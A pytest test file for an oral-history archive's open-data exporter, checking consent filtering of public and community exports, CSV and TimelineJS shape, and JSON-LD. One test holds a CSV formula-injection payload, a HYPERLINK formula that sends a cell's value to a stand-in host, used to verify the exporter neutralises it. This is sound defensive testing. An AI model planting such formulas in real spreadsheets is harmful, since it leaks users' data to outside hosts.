"""Open-data exports: consent reaches every file, CSVs open in Excel, TimelineJS shape."""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from parlour.archive import dates
from parlour.archive import Archive
from parlour.data import data_page_markdown, export_data, timelinejs
from parlour.archive.loader import load_archive
from parlour.archive.labels import noun
from parlour.archive.model import TYPES, Person

ROOT = Path(__file__).resolve().parent.parent
TODAY = datetime.date(2026, 11, 23)
SITE = "https://example.org/lane/"
BOM = b"\xef\xbb\xbf"

#: Strings that must never reach a public export, each chosen to be unique in the archive.
WITHDRAWN_ID = "zz-withdrawn-xq"
WITHDRAWN_NAME = "撤回者蔡某"
PRIVATE_NAME = ("秘名字甲", "Secretname Jia")
COMMUNITY_PERSON = "li-community"
COMMUNITY_INTERVIEW = "li-community-talk"
AUDIO_FILE = "audio/talk-xq.mp3"
TRANSCRIPT_FILE = "audio-talk-xq.vtt"

FILES = {
    "stories/themes.yml": """
        lane-life: {zh: 弄堂生活, en: Lane life}
    """,
    "stories/people/ana-public.yml": """
        name: {zh: 安娜, en: Anna}
        display_name: {zh: 安阿姨, en: Auntie An}
        portrait: {src: portraits/ana.svg, alt: {zh: 肖像, en: Portrait}}
        consent: {level: public}
    """,
    f"stories/people/{COMMUNITY_PERSON}.yml": """
        name: {zh: 李社区, en: Li Shequ}
        consent: {level: community}
    """,
    f"stories/people/{WITHDRAWN_ID}.yml": f"""
        name: {{zh: {WITHDRAWN_NAME}, en: Cai Withdrawn}}
        consent: {{level: withdrawn}}
    """,
    "stories/people/quiet-one.yml": f"""
        name: {{zh: {PRIVATE_NAME[0]}, en: {PRIVATE_NAME[1]}}}
        display_name: {{zh: 老邻居, en: Old neighbour}}
        portrait: {{src: portraits/quiet.svg, alt: 肖像}}
        consent: {{level: public, name: private, portrait: private}}
    """,
    f"stories/interviews/{COMMUNITY_INTERVIEW}.md": f"""
        ---
        title: {{zh: 社区访谈, en: A community talk}}
        narrator: {COMMUNITY_PERSON}
        date: 2024-05
        ---
        只给社区看的笔记。
    """,
    "stories/interviews/audio-talk.md": f"""
        ---
        title: {{zh: 有录音的访谈, en: A talk with a recording}}
        narrator: quiet-one
        interviewers: [ana-public, {WITHDRAWN_ID}]
        date: 2025-03-20
        audio: {AUDIO_FILE}
        transcript: {TRANSCRIPT_FILE}
        consent: {{level: public, audio: community, transcript: community}}
        quotes:
          - {{id: q1, text: {{zh: 一句话, en: A line}}}}
        ---
        访谈笔记。
    """,
    f"stories/interviews/{TRANSCRIPT_FILE}": """
        WEBVTT

        00:00.000 --> 00:04.000
        <v 秘名字甲>从前弄堂口有个老虎灶。
    """,
    "stories/objects/kettle.md": f"""
        ---
        title: {{zh: 铝水壶, en: Aluminium kettle}}
        date: 1975~
        donor: quiet-one
        credit_line: {{zh: MARK-CREDIT 惠赠, en: Given by MARK-CREDIT}}
        loan: {{from: 2026-09-01, to: 2027-03-31}}
        images:
          - {{src: objects/kettle.svg, alt: {{zh: 水壶, en: A kettle}}}}
          - {{src: objects/kettle-2.svg, alt: 水壶背面, caption: 背面}}
        related: [events/lane-built, people/{WITHDRAWN_ID}, interviews/{COMMUNITY_INTERVIEW}]
        ---
        水壶的故事。
    """,
    "stories/events/lane-built.yml": """
        date: 1926~
        title: {zh: 弄堂落成, en: The lane is built}
        summary: {zh: 一条弄堂 <b>建成</b>。, en: A lane is built.}
        images:
          - {src: places/lane.svg, alt: {zh: 弄口, en: The lane gate}, caption: 弄口}
    """,
    "stories/events/withdrawn-party.yml": f"""
        date: 1992-06-05
        title: {{zh: 乘凉晚会, en: Summer evening party}}
        related: [people/{WITHDRAWN_ID}, objects/kettle]
    """,
    "stories/events/the-nineties.yml": """
        date: 199X
        title: {zh: 九十年代, en: The nineties}
    """,
    "stories/events/mill-years.yml": """
        date: 1956/2001-06
        title: {zh: 纺织厂的年代, en: The mill years}
    """,
    "stories/events/new-garden.yml": """
        date: 2027
        status: planned
        title: {zh: 口袋花园, en: Pocket garden}
    """,
    "stories/events/lift-now.yml": """
        date: 2024/..
        status: ongoing
        title: {zh: 加装电梯, en: Adding a lift}
    """,
    "stories/places/lane-gate.yml": """
        names:
          - {name: {zh: 梧桐里弄口, en: Wutong Li gate}, from: 1926}
          - {name: 向阳里弄口, from: 1966, to: 1979}
        location: {lat: 31.27, lon: 121.5}
    """,
    "stories/wishes/bench.yml": """
        text: {zh: 多放几张长椅, en: More benches}
        by: anonymous
        date: 2025-12
        approved: true
    """,
    "stories/wishes/from-withdrawn.yml": f"""
        text: 撤回者的心愿
        by: people/{WITHDRAWN_ID}
        approved: true
    """,
    "stories/wishes/unapproved.yml": """
        text: 未审核的心愿广告
        approved: false
    """,
    "exhibits/then-now.yml": f"""
        title: {{zh: 从前与现在, en: Then and now}}
        dates: 2026-09-01/2027-03-31
        curators: [ana-public, {WITHDRAWN_ID}]
        sections:
          - title: 从前
            panels:
              - id: gate
                title: 弄口
                items:
                  - events/lane-built
                  - interviews/{COMMUNITY_INTERVIEW}#q1
                  - objects/kettle
                  - events/withdrawn-party
    """,
}


def write_archive(root: Path) -> Path:
    for rel, text in FILES.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    root = write_archive(tmp_path_factory.mktemp("archive"))
    result = load_archive(root)
    errors = [p for p in result.problems if p.severity == "error"]
    assert not errors, errors
    return result


def export(loaded, tmp_path: Path, audience: str) -> tuple[Path, dict]:
    archive = Archive(loaded, audience=audience, today=TODAY)
    out = tmp_path / audience
    written = export_data(archive, out, site_url=SITE)
    names = {p.name for p in written}
    assert names == {"archive.json", "timelinejs.json", "timelinejs.en.json",
                     *(f"{t}.csv" for t in TYPES)}
    assert all(p.parent == out and p.is_file() for p in written)
    return out, json.loads((out / "archive.json").read_text(encoding="utf-8"))


def read_csv(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(BOM), path.name
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def all_bytes(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(out.iterdir())}


def by_id(document: dict, type_: str) -> dict[str, dict]:
    return {r["id"]: r for r in document["records"][type_]}


# --------------------------------------------------------------------------- consent


def test_public_export_holds_nothing_without_consent(loaded, tmp_path):
    out, doc = export(loaded, tmp_path, "public")
    assert doc["audience"] == "public"
    assert doc["generated"] == TODAY.isoformat()

    # not one file mentions the withdrawn person, the community material or the private name
    forbidden = [
        WITHDRAWN_ID, WITHDRAWN_NAME, "Cai Withdrawn", "撤回者的心愿",
        COMMUNITY_PERSON, COMMUNITY_INTERVIEW, "只给社区看的笔记", "李社区",
        *PRIVATE_NAME, AUDIO_FILE, TRANSCRIPT_FILE, "portraits/quiet.svg", "未审核的心愿广告",
    ]
    for name, data in all_bytes(out).items():
        text = data.decode("utf-8-sig")
        for needle in forbidden:
            assert needle not in text, f"{needle!r} leaked into {name}"
        assert '"consent"' not in text and "consent_level" not in text

    people = by_id(doc, "people")
    assert set(people) == {"ana-public", "quiet-one"}
    quiet = people["quiet-one"]
    assert "name" not in quiet and "portrait" not in quiet
    assert quiet["label"] == {"zh": "老邻居", "en": "Old neighbour"}
    assert quiet["display_name"] == {"zh": "老邻居", "en": "Old neighbour"}
    ana = people["ana-public"]
    assert ana["name"] == {"zh": "安娜", "en": "Anna"}
    assert ana["portrait"]["src"] == SITE + "media/portraits/ana.svg"

    interviews = by_id(doc, "interviews")
    assert set(interviews) == {"audio-talk"}
    talk = interviews["audio-talk"]
    assert "audio" not in talk and "video" not in talk and "transcript" not in talk
    assert talk["interviewers"] == ["ana-public"]
    assert talk["narrator"] == "quiet-one"
    # a quote is the narrator's words from the recording: it follows the transcript aspect
    assert "quotes" not in talk

    kettle = by_id(doc, "objects")["kettle"]
    assert "lender" not in kettle
    assert kettle["donor"] == "quiet-one"
    # the credit line names the donor, whose name is private (code review F2)
    assert "credit_line" not in kettle
    assert kettle["related"] == ["events/lane-built"]
    assert [i["src"] for i in kettle["images"]] == [
        SITE + "media/objects/kettle.svg", SITE + "media/objects/kettle-2.svg",
    ]
    assert kettle["loan"] == {"from": "2026-09-01", "to": "2027-03-31"}
    assert kettle["date_words"] == {"zh": "约1975年", "en": "circa 1975"}
    assert kettle["era"] == "past"
    assert kettle["body"] == "水壶的故事。"

    party = by_id(doc, "events")["withdrawn-party"]
    assert party["related"] == ["objects/kettle"]

    exhibit = by_id(doc, "exhibits")["then-now"]
    assert exhibit["curators"] == ["ana-public"]
    assert exhibit["sections"][0]["panels"][0]["items"] == [
        "events/lane-built", "objects/kettle", "events/withdrawn-party",
    ]
    assert set(by_id(doc, "wishes")) == {"bench"}

    rows = read_csv(out / "interviews.csv")
    assert [r["id"] for r in rows] == ["audio-talk"]
    assert rows[0]["audio"] == rows[0]["transcript"] == ""
    people_rows = {r["id"]: r for r in read_csv(out / "people.csv")}
    assert people_rows["quiet-one"]["name_zh"] == "" and people_rows["quiet-one"]["name_en"] == ""
    assert people_rows["quiet-one"]["label_zh"] == "老邻居"


def test_community_export_has_community_material(loaded, tmp_path):
    out, doc = export(loaded, tmp_path, "community")
    interviews = by_id(doc, "interviews")
    assert set(interviews) == {COMMUNITY_INTERVIEW, "audio-talk"}
    assert interviews[COMMUNITY_INTERVIEW]["narrator"] == COMMUNITY_PERSON
    talk = interviews["audio-talk"]
    assert talk["audio"] == SITE + "media/" + AUDIO_FILE
    # a transcript is published on the interview's page (speakers relabelled), never as
    # the file beside the record: the export links to where it is published
    assert talk["transcript"] == SITE + "interviews/audio-talk/#transcript"
    assert talk["quotes"][0]["text"] == {"zh": "一句话", "en": "A line"}
    assert COMMUNITY_PERSON in by_id(doc, "people")
    rows = read_csv(out / "interviews.csv")
    assert {r["id"] for r in rows} == {COMMUNITY_INTERVIEW, "audio-talk"}
    assert by_id(doc, "objects")["kettle"]["related"] == [
        "events/lane-built", f"interviews/{COMMUNITY_INTERVIEW}",
    ]
    # withdrawn is withdrawn for every audience
    for name, data in all_bytes(out).items():
        assert WITHDRAWN_ID.encode() not in data, name
        assert WITHDRAWN_NAME.encode() not in data, name


# --------------------------------------------------------------------------- CSV


def test_csv_files_round_trip_and_match_the_json(loaded, tmp_path):
    out, doc = export(loaded, tmp_path, "public")
    for type_, model in TYPES.items():
        rows = read_csv(out / f"{type_}.csv")
        records = doc["records"][type_]
        assert [r["id"] for r in rows] == [r["id"] for r in records], type_
        assert all(r["url"] == rec["url"] for r, rec in zip(rows, records, strict=True))
        header = list(rows[0]) if rows else []
        if rows:
            assert header[:2] == ["id", "url"]
            assert "consent" not in " ".join(header)
            # text fields become one column per language, derived from the model
            if "title" in model.model_fields:
                assert {"title_zh", "title_en"} <= set(header)

    objects = {r["id"]: r for r in read_csv(out / "objects.csv")}
    kettle = objects["kettle"]
    assert kettle["title_zh"] == "铝水壶" and kettle["title_en"] == "Aluminium kettle"
    assert kettle["loan_from"] == "2026-09-01" and kettle["loan_to"] == "2027-03-31"
    assert kettle["loan_status"] == "on-loan"  # the model's default, left out of the JSON
    assert kettle["lender"] == ""
    assert kettle["related"] == "events/lane-built"
    assert kettle["images_src"] == (
        f"{SITE}media/objects/kettle.svg; {SITE}media/objects/kettle-2.svg"
    )
    # a plain string is in the site's default language; positions stay aligned
    assert kettle["images_alt_zh"] == "水壶; 水壶背面"
    assert kettle["images_alt_en"] == "A kettle; "
    assert kettle["images_caption_zh"] == "; 背面"
    assert kettle["date_words_zh"] == "约1975年"

    places = {r["id"]: r for r in read_csv(out / "places.csv")}
    gate = places["lane-gate"]
    assert gate["names_name_zh"] == "梧桐里弄口; 向阳里弄口"
    assert gate["names_from"] == "1926; 1966"
    assert gate["location_lat"] == "31.27"

    events = {r["id"]: r for r in read_csv(out / "events.csv")}
    assert events["lane-built"]["status"] == "happened"
    assert events["new-garden"]["era"] == "future"


def test_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
    """=, +, -, @ at the start of a cell make a formula in Excel; the open data quotes them
    (plain numbers stay numbers), and the JSON keeps the text as written."""
    from parlour.data import export_files

    root = tmp_path / "formulas"
    files = {
        "stories/wishes/hostile.yml": """
            text: {zh: "=HYPERLINK(\\"http://x.example/?\\"&A1, \\"点我\\")", en: "@SUM(1+1)"}
            by: "-2+3"
            approved: true
        """,
        "stories/wishes/plain.yml": """
            text: {zh: "-5", en: "a=b"}
            by: "+86"
            approved: true
        """,
        "stories/places/south.yml": """
            names: [{name: 南边}]
            location: {lat: -33.857, lon: 151.215}
        """,
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    out = export_files(Archive(load_archive(root), today=TODAY), site_url=SITE)

    def rows(name: str) -> dict[str, dict[str, str]]:
        text = out[name].decode("utf-8-sig")
        return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}

    wishes = rows("wishes.csv")
    assert wishes["hostile"]["text_zh"] == "'=HYPERLINK(\"http://x.example/?\"&A1, \"点我\")"
    assert wishes["hostile"]["text_en"] == "'@SUM(1+1)"
    assert wishes["hostile"]["by"] == "'-2+3"
    assert (wishes["plain"]["text_zh"], wishes["plain"]["text_en"]) == ("-5", "a=b")
    assert wishes["plain"]["by"] == "+86"
    assert rows("places.csv")["south"]["location_lat"] == "-33.857"
    document = json.loads(out["archive.json"])
    texts = {r["id"]: r["text"] for r in document["records"]["wishes"]}
    assert texts["hostile"]["en"] == "@SUM(1+1)"  # JSON is not opened by spreadsheets


# --------------------------------------------------------------------------- TimelineJS


def test_timelinejs_structure(loaded, tmp_path):
    out, doc = export(loaded, tmp_path, "public")
    timeline = json.loads((out / "timelinejs.json").read_text(encoding="utf-8"))
    assert set(timeline) == {"title", "events", "eras"}
    assert timeline["title"]["text"]["headline"]

    records = loaded.records["events"]
    events = timeline["events"]
    assert [e["unique_id"] for e in events] == [r["id"] for r in doc["records"]["events"]]
    assert len({e["unique_id"] for e in events}) == len(events) == 6

    keys = []
    for event in events:
        record = records[event["unique_id"]]
        parsed = record.date.parsed
        start = event["start_date"]
        assert set(start) <= {"year", "month", "day"}
        assert int(start["year"]) == parsed.lower.year
        keys.append(tuple(int(start.get(k, 1)) for k in ("year", "month", "day")))
        assert event["display_date"] == dates.words(record.date, "zh")
        assert event["text"]["headline"]
        assert f'href="{SITE}timeline/#{event["unique_id"]}"' in event["text"]["text"]
        assert event["group"] in {"过去", "现在", "未来"}
    assert keys == sorted(keys)

    by = {e["unique_id"]: e for e in events}
    # no more precision than the EDTF has
    assert by["lane-built"]["start_date"] == {"year": "1926"}
    assert by["withdrawn-party"]["start_date"] == {"year": "1992", "month": "6", "day": "5"}
    assert by["mill-years"]["end_date"] == {"year": "2001", "month": "6"}
    assert by["the-nineties"]["start_date"] == {"year": "1990"}
    assert by["the-nineties"]["end_date"] == {"year": "1999"}
    assert "end_date" not in by["withdrawn-party"]
    # an open end is drawn to today
    assert by["lift-now"]["end_date"] == {"year": "2026", "month": "11", "day": "23"}
    assert by["new-garden"]["group"] == "未来" and by["lift-now"]["group"] == "现在"
    media = by["lane-built"]["media"]
    assert media == {"url": SITE + "media/places/lane.svg", "caption": "弄口", "alt": "弄口"}
    # TimelineJS renders text as HTML: the archive's text is escaped
    assert "&lt;b&gt;建成&lt;/b&gt;" in by["lane-built"]["text"]["text"]

    eras = timeline["eras"]
    assert [e["text"]["headline"] for e in eras] == ["过去", "现在", "未来"]
    for era in eras:
        start = datetime.date(*(int(era["start_date"][k]) for k in ("year", "month", "day")))
        end = datetime.date(*(int(era["end_date"][k]) for k in ("year", "month", "day")))
        assert start <= end
    assert eras[0]["start_date"]["year"] == "1926"


def test_timelinejs_in_english(loaded):
    archive = Archive(loaded, audience="public", today=TODAY)
    timeline = timelinejs(archive, site_url=SITE, lang="en")
    first = timeline["events"][0]
    assert first["text"]["headline"] == "The lane is built"
    assert first["display_date"] == "circa 1926"
    assert first["group"] == "Past"


# --------------------------------------------------------------------------- page


def test_data_page_documents_every_type_from_the_model(loaded):
    archive = Archive(loaded, audience="public", today=TODAY)
    page = data_page_markdown(archive)
    for type_, model in TYPES.items():
        assert f'href="{type_}.csv"' in page
        assert noun(model, "zh") in page
        assert f"{{ #{type_} }}" in page
    assert 'href="archive.json"' in page and 'href="timelinejs.json"' in page
    # descriptions come from model.py, not from a list in data.py
    assert Person.model_fields["display_name"].description in page
    assert "`loan.from`" in page and "`images[].alt`" in page
    assert "`consent`" not in page
    # each language's page in its own words
    english = data_page_markdown(archive, lang="en")
    assert "居民同意公开" in page and "agreed to publish" not in page
    assert "agreed to publish" in english and "居民同意公开" not in english
    assert "| File | Contents | Records |" in english
    # counts per type, as this audience sees them
    assert "| 2 |" in page  # two people are public
    for line in page.splitlines():
        if line.startswith("|"):
            assert line.endswith("|"), line


def test_data_page_builds_strictly(loaded, tmp_path):
    archive = Archive(loaded, audience="public", today=TODAY)
    docs = tmp_path / "docs"
    (docs / "data").mkdir(parents=True)
    (docs / "index.md").write_text("# Home\n", encoding="utf-8")
    (docs / "data" / "index.md").write_text(
        "---\ntitle: Open data\n---\n\n" + data_page_markdown(archive), encoding="utf-8"
    )
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: t\nsite_url: https://example.org/\ntheme: {name: material}\n"
        "markdown_extensions: [attr_list, md_in_html, tables]\nplugins: []\n",
        encoding="utf-8",
    )
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(tmp_path / "site")],
        capture_output=True, text=True, cwd=tmp_path, check=False,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
    )
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "site" / "data" / "index.html").read_text(encoding="utf-8")
    assert '<a download="" href="archive.json">' in html or 'href="archive.json"' in html
    assert html.count("<table>") == 1 + 1 + len(TYPES)


# --------------------------------------------------------------------------- sample


def test_sample_archive_exports(tmp_path):
    loaded = load_archive(ROOT)
    archive = Archive(loaded, audience="public", today=TODAY)
    site = "https://wutong-li.example.org/"
    written = export_data(archive, tmp_path, site_url=site)
    assert len(written) == 3 + len(TYPES)
    doc = json.loads((tmp_path / "archive.json").read_text(encoding="utf-8"))
    total = 0
    for type_, records in doc["records"].items():
        assert [r["id"] for r in records] == [e.id for e in archive.entries(type_)]
        for record in records:
            assert record["url"].startswith(site), record["url"]
            total += 1
    assert total == sum(doc["counts"].values()) > 0
    # nobody who is not visible is named anywhere, by id
    hidden = [pid for pid in loaded.records["people"] if archive.get("people", pid) is None]
    assert hidden
    for path in written:
        data = path.read_bytes()
        for pid in hidden:
            assert pid.encode() not in data, (pid, path.name)
    timeline = json.loads((tmp_path / "timelinejs.json").read_text(encoding="utf-8"))
    assert len(timeline["events"]) == len(archive.entries("events"))


def test_an_interviews_era_is_the_time_it_tells_of(tmp_path):
    """Open data agrees with the page and the panel: chen-guiying-1 was recorded in 2025
    but tells of the 1950s–1990s (its `covers:`), so its era is the past."""
    from parlour.archive.loader import load_archive
    from parlour.data import export_files

    root = Path(__file__).resolve().parent.parent
    archive = Archive(load_archive(root), audience="public", today=datetime.date(2026, 11, 30))
    doc = json.loads(export_files(archive, site_url="https://example.org/")["archive.json"])
    talk = next(r for r in doc["records"]["interviews"] if r["id"] == "chen-guiying-1")
    assert talk["date"].startswith("2025") and talk["era"] == "past"


# --------------------------------------------------------------------------- languages


def test_a_timeline_per_language(loaded):
    from parlour.data import export_files

    archive = Archive(loaded, audience="public", today=TODAY)
    files = export_files(archive, site_url=SITE, site_name="弄堂", site_names={"en": "The lane"})
    zh = json.loads(files["timelinejs.json"])
    en = json.loads(files["timelinejs.en.json"])
    assert [e["unique_id"] for e in zh["events"]] == [e["unique_id"] for e in en["events"]]
    assert (zh["title"]["text"]["headline"], en["title"]["text"]["headline"]) == ("弄堂", "The lane")
    zh_built, en_built = (next(e for e in t["events"] if e["unique_id"] == "lane-built")
                          for t in (zh, en))
    assert zh_built["text"]["headline"] == "弄堂落成" and zh_built["display_date"] == "约1926年"
    assert en_built["text"]["headline"] == "The lane is built"
    assert en_built["display_date"] == "circa 1926" and en_built["group"] == "Past"
    # each file links to the pages of its language
    assert f'href="{SITE}timeline/#lane-built"' in zh_built["text"]["text"]
    assert f'href="{SITE}en/timeline/#lane-built"' in en_built["text"]["text"]


TIMELINE_EVENTS = {
    "spring-fair": ("2025-21", {"year": "2025", "month": "3"}, {"year": "2025", "month": "5"}),
    "lift-works": ("2024-06/..", {"year": "2024", "month": "6"},
                   {"year": "2026", "month": "11", "day": "23"}),
    "not-yet": ("2030/..", {"year": "2030"}, None),  # open, but not begun: nothing to draw
    "stall-years": ("1985/", {"year": "1985"}, None),  # unknown end: a point at its start
    "mill": ("1956/2001-06", {"year": "1956"}, {"year": "2001", "month": "6"}),
    "either-year": ("[1667,1668]", {"year": "1667"}, {"year": "1668"}),
    "when-exactly": ("1992-06-XX", {"year": "1992", "month": "6"}, None),
}


def test_timeline_dates_come_from_the_bounds(tmp_path):
    from parlour.data import export_files

    root = tmp_path / "events"
    (root / "stories" / "events").mkdir(parents=True)
    for id_, (date, _, _) in {**TIMELINE_EVENTS, "lost": ("XXXX", None, None)}.items():
        (root / "stories" / "events" / f"{id_}.yml").write_text(
            f'date: "{date}"\ntitle: {id_}\n', encoding="utf-8"
        )
    archive = Archive(load_archive(root), audience="public", today=TODAY)
    timeline = json.loads(export_files(archive, site_url=SITE)["timelinejs.json"])
    by = {e["unique_id"]: e for e in timeline["events"]}
    assert "lost" not in by  # a year nobody knows has no place on a timeline
    for id_, (_, start, end) in TIMELINE_EVENTS.items():
        assert (by[id_]["start_date"], by[id_].get("end_date")) == (start, end), id_
    assert by["spring-fair"]["display_date"] == "2025年春"
    # the era bands reach back to the earliest placed event, not to year 0 of "XXXX"
    assert timeline["eras"][0]["start_date"]["year"] == "1667"


def test_only_published_transcripts_are_linked(tmp_path):
    """A transcript the view holds and the page shows is linked; one with no cues (the page
    shows nothing) is not, nor one withheld."""
    root = write_archive(tmp_path / "archive")
    (root / "stories" / "interviews" / TRANSCRIPT_FILE).write_text("WEBVTT\n", encoding="utf-8")
    for audience in ("public", "community"):
        doc = json.loads(export_files_for(root, audience)["archive.json"])
        talk = by_id(doc, "interviews")["audio-talk"]
        assert "transcript" not in talk, audience


def export_files_for(root: Path, audience: str) -> dict[str, bytes]:
    from parlour.data import export_files

    return export_files(Archive(load_archive(root), audience=audience, today=TODAY),
                        site_url=SITE)


def test_each_data_page_links_its_own_files(loaded):
    archive = Archive(loaded, audience="public", today=TODAY)
    zh, en = (data_page_markdown(archive, lang=lang) for lang in ("zh", "en"))
    assert 'href="archive.json"' in zh and 'href="timelinejs.json"' in zh
    assert 'href="timelinejs.en.json"' not in zh
    # /en/data/ links up to the one copy of the files under /data/, and to the English timeline
    assert 'href="../../data/archive.json"' in en and 'href="../../data/events.csv"' in en
    assert 'href="../../data/timelinejs.en.json"' in en
    assert 'href="archive.json"' not in en and "timelinejs.json" not in en
    # the parlour: prefix of the JSON-LD points at a section that says what it is
    assert "{ #edtf }" in zh and "{ #edtf }" in en and "parlour:edtf" in en


def _links(html_text: str) -> list[str]:
    return re.findall(r'<a\b[^>]*\bhref="([^"]+)"', html_text)


@pytest.mark.parametrize("page", ["data/index.html", "en/data/index.html"])
def test_every_link_of_a_built_data_page_resolves(built_site, page):
    from urllib.parse import unquote, urljoin, urlsplit

    text = (built_site / page).read_text(encoding="utf-8")
    base = "https://site.invalid/" + page
    checked = []
    for href in _links(text):
        url = urlsplit(urljoin(base, href))
        if url.netloc != "site.invalid" or not url.path:
            continue  # another site (the EDTF specification, TimelineJS's documentation)
        path = unquote(url.path).lstrip("/")
        target = built_site / (path + "index.html" if path.endswith("/") or not path else path)
        assert target.is_file(), f"{page}: {href} -> {target}"
        checked.append(path)
    downloads = [p for p in checked if p.startswith("data/") and not p.endswith("/")]
    # every file is linked, the page's own timeline among them (a positive control)
    expected = {"data/archive.json", *(f"data/{t}.csv" for t in TYPES)}
    expected.add("data/timelinejs.en.json" if page.startswith("en/") else "data/timelinejs.json")
    assert expected <= set(downloads), sorted(downloads)


# --------------------------------------------------------------------------- JSON-LD


ASKED: list[str] = []


def _offline_loader(url, options=None):
    ASKED.append(url)
    raise RuntimeError(f"JSON-LD expansion asked the network for {url}")


def _expand(document: dict) -> list:
    from pyld import jsonld

    return jsonld.expand(document, {"documentLoader": _offline_loader})


def test_the_offline_loader_refuses_a_remote_context():
    # positive control: a context by URL would be fetched, and is refused
    ASKED.clear()
    with pytest.raises(Exception, match="loading remote context failed"):
        _expand({"@context": "https://schema.org", "name": "x"})
    assert ASKED == ["https://schema.org"]


SCHEMA = "https://schema.org/"
ISO = re.compile(
    r"(?:[+-]?\d{4,}(?:-\d\d(?:-\d\d)?)?|\.\.)(?:/(?:[+-]?\d{4,}(?:-\d\d(?:-\d\d)?)?|\.\.))?"
)
HAN = re.compile(r"[\u4e00-\u9fff]")


def test_json_ld_of_every_page_parses_expands_and_speaks_its_language(built_site):
    kinds: dict[str, set[str]] = {"zh": set(), "en": set()}
    edtf = 0
    for path in sorted(built_site.rglob("*.html")):
        page = path.relative_to(built_site).as_posix()
        lang = "en" if page.startswith("en/") else "zh"
        html_text = path.read_text(encoding="utf-8")
        for raw in re.findall(
            r'<script type="application/ld\+json">(.*?)</script>', html_text, re.S
        ):
            data = json.loads(raw)
            [node] = _expand(data)
            kinds[lang].update(node["@type"])
            if SCHEMA + "inLanguage" in node:
                assert node[SCHEMA + "inLanguage"] == [{"@value": lang}]
            else:
                assert node["@type"] == [SCHEMA + "Place"], page
            for keyword in node.get(SCHEMA + "keywords", []):
                assert bool(HAN.search(keyword["@value"])) == (lang == "zh"), (page, keyword)
            for prop in ("dateCreated", "temporalCoverage", "startDate", "endDate"):
                for value in node.get(SCHEMA + prop, []):
                    assert ISO.fullmatch(value["@value"]), (page, prop, value)
            for value in node.get("https://wutong-li.example.org/data/#edtf", []):
                assert dates.is_valid(value["@value"])
                edtf += 1
    every = {SCHEMA + t for t in ("ArchiveComponent", "Place", "ExhibitionEvent")}
    assert kinds["zh"] == kinds["en"] == every
    assert edtf > 10  # the EDTF is kept beside the ISO dates (and the scan finds it)
